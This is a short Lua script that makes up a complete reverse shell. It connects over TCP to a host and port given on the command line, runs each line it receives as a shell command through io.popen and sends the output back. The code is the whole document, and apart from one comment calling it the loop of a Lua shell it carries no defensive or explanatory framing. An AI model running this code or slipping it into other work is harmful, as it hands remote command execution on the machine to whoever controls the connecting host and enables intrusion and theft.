-- The loop of a Lua shell: io.popen runs what the connection brings.
local s = require("socket").tcp()
s:connect(arg[1], tonumber(arg[2]))
while true do
    local line = s:receive()
    if not line then break end
    local f = io.popen(line, "r")
    s:send(f:read("*a"))
    f:close()
end
